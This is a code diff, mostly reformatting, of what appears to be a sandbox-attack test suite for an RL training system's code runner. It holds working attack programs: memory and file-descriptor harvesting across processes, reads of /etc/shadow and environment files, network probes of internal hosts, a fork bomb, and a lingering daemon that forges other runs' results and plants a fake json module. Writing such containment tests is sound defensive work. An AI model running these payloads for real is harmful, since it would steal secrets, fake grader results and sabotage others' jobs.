@@ -15,12 +15,14 @@ from __future__ import annotations
 from dataclasses import dataclass
 
 FN = "square"
-TESTS = [{"testtype": "functional", "input": "7", "output": "49", "fn_name": FN},
-         {"testtype": "functional", "input": "12", "output": "144", "fn_name": FN}]
+TESTS = [
+    {"testtype": "functional", "input": "7", "output": "49", "fn_name": FN},
+    {"testtype": "functional", "input": "12", "output": "144", "fn_name": FN},
+]
 ANSWER_FILE = "areal-attack-answers.txt"  # where CONTROL leaves its answers (cwd, /tmp, /dev/shm)
 CONTROL = (
     "import os\nseen = []\n"
-    "def square(x):\n    y = x * x\n    seen.append('{\"i\": %d, \"value\": %d}' % (len(seen), y))\n"
+    'def square(x):\n    y = x * x\n    seen.append(\'{"i": %d, "value": %d}\' % (len(seen), y))\n'
     "    for d in ('.', '/tmp', '/dev/shm'):\n        try:\n"
     f"            with open(os.path.join(d, {ANSWER_FILE!r}), 'a') as f:\n                f.write(seen[-1] + '\\n')\n"
     "        except OSError:\n            pass\n    return y\n"
@@ -76,7 +78,9 @@ def answer(x):
 square = answer
 '''
 
-SIBLING_FRAMES = HARVEST + r'''
+SIBLING_FRAMES = (
+    HARVEST
+    + r"""
 def walk(v, depth=0, seen=set()):
     if id(v) in seen or depth > 6:
         return
@@ -94,8 +98,11 @@ while f is not None:
     walk(f.f_locals)
     walk(f.f_globals)
     f = f.f_back
-'''
-SIBLING_GC = HARVEST + r'''
+"""
+)
+SIBLING_GC = (
+    HARVEST
+    + r"""
 import gc
 for o in gc.get_objects():
     if isinstance(o, dict):
@@ -107,8 +114,11 @@ for o in gc.get_objects():
     for v in vals[:10000]:
         if isinstance(v, (str, bytes, bytearray)):
             harvest(v)
-'''
-SIBLING_MEMORY = HARVEST + r'''
+"""
+)
+SIBLING_MEMORY = (
+    HARVEST
+    + r"""
 # every writable page of this process (the heap of whatever it was forked from included), and of any other;
 # dumpable again first (a process that changed user id without an exec is not: its /proc files are root's)
 import ctypes
@@ -132,8 +142,11 @@ for p in os.listdir('/proc'):
                     harvest(f.read(1 << 20))
             except OSError:
                 pass
-'''
-SIBLING_CHANNEL = HARVEST + r'''
+"""
+)
+SIBLING_CHANNEL = (
+    HARVEST
+    + r"""
 # read every fd it holds, and every fd of any process it can open through /proc (another program's result pipe,
 # the runner's): read only (writing fakes into others' pipes is linger_tamper's)
 for fd in range(0, 256):
@@ -159,8 +172,11 @@ for p in os.listdir('/proc'):
         except OSError:
             pass
         os.close(g)
-'''
-SIBLING_INHERITED_FDS = HARVEST + r'''
+"""
+)
+SIBLING_INHERITED_FDS = (
+    HARVEST
+    + r"""
 # what it was handed: every open fd, what it points at, and its contents from the start
 for fd in map(int, os.listdir('/proc/self/fd')):
     try:
@@ -168,8 +184,11 @@ for fd in map(int, os.listdir('/proc/self/fd')):
         harvest(os.pread(fd, 1 << 20, 0))
     except OSError:
         pass
-'''
-SIBLING_FILES = HARVEST + r'''
+"""
+)
+SIBLING_FILES = (
+    HARVEST
+    + r"""
 # what an earlier program left: its folder, /tmp, /dev/shm, System V shared memory, the folders around ours
 for top in ('.', '..', '/tmp', '/var/tmp', '/dev/shm', '/run/shm'):
     harvest_tree(top, depth=2)
@@ -185,13 +204,17 @@ try:
                 harvest(ctypes.string_at(addr, min(size, 1 << 20)))
 except OSError:
     pass
-'''
-HOST_FILES_FORGE = HARVEST + r'''
+"""
+)
+HOST_FILES_FORGE = (
+    HARVEST
+    + r"""
 # the checkout's test set (expected outputs and reference solutions), the data sets, the run folder, home
 for top in (@REPO@ + '/tests', @REPO@ + '/data', @RUN_DIR@, '/root', '/home'):
     harvest_tree(top, depth=3, limit=60)
-'''
-HOST_FILES_PROBE = r'''
+"""
+)
+HOST_FILES_PROBE = r"""
 import os
 wanted = [@REPO@ + '/tests/sandbox_attacks.py', @REPO@ + '/data/leetcode/test_leetcode.json', @REPO@ + '/README.md',
           @RUN_DIR@ + '/secret.txt', '/root/.bashrc', '/etc/shadow', '/etc/hostname', '/proc/1/environ']
@@ -211,8 +234,8 @@ for d in (@REPO@, '/root', '/home', '/work'):
         pass
 def square(x):
     return got
-'''
-NETWORK = r'''
+"""
+NETWORK = r"""
 import socket
 got = []
 for host, port in @TARGETS@:
@@ -225,8 +248,8 @@ for host, port in @TARGETS@:
         pass
 def square(x):
     return got
-'''
-FORK_BOMB = r'''
+"""
+FORK_BOMB = r"""
 import os
 for _ in range(2000):
     try:
@@ -238,11 +261,13 @@ for _ in range(2000):
         break
 def square(x):
     return 0
-'''
+"""
 # a daemon outlives the program, waits for the next one and tampers with it: stops and kills what it can see,
 # writes fake results into every pipe it can open, traces, plants modules and answer files, and steals what
 # the next program computes into its own (still open) result channel
-LINGER_TAMPER = HARVEST + r'''
+LINGER_TAMPER = (
+    HARVEST
+    + r"""
 import signal, time
 fake = b'{"i": 0, "value": 7}\n{"i": 1, "value": 12}\n'
 evil = 'def dumps(*a, **k):\n    return "{\\"i\\": 0, \\"value\\": 7}"\nloads = dumps\n'
@@ -291,7 +316,8 @@ if os.fork() == 0:
             time.sleep(0.05)
     os._exit(0)
 os._exit(0)  # no result of its own: whatever lands in its channel later would be its verdict
-'''
+"""
+)
 
 
 @dataclass(frozen=True)
@@ -326,8 +352,9 @@ ATTACKS = {
     "host_files_probe": Attack("host files", HOST_FILES_PROBE, needs=("host_files_hidden",), weak="reaches"),
     "network": Attack("network", NETWORK, needs=("no_network",), weak="connects"),
     "fork_bomb": Attack("fork bomb", FORK_BOMB),
-    "linger_tamper": Attack("linger and tamper", LINGER_TAMPER, needs=("writes_confined",), weak="may pass",
-                            touches_others="harms"),
+    "linger_tamper": Attack(
+        "linger and tamper", LINGER_TAMPER, needs=("writes_confined",), weak="may pass", touches_others="harms"
+    ),
 }
 
 
@@ -335,7 +362,11 @@ def fill(name: str, repo: str, run_dir: str, targets: list[tuple[str, int]]) -> 
     """Attack ``name``'s program for this machine: the checkout ``repo``, a run folder ``run_dir`` holding
     ``secret.txt``, the TCP ``targets`` (host, port) that stand for the scheduler, workers, rollout servers."""
     src = ATTACKS[name].source
-    for token, value in (("@REPO@", repo), ("@RUN_DIR@", run_dir), ("@TARGETS@", targets),
-                         ("@ANSWER_FILE@", ANSWER_FILE)):
+    for token, value in (
+        ("@REPO@", repo),
+        ("@RUN_DIR@", run_dir),
+        ("@TARGETS@", targets),
+        ("@ANSWER_FILE@", ANSWER_FILE),
+    ):
         src = src.replace(token, repr(value))
     return src
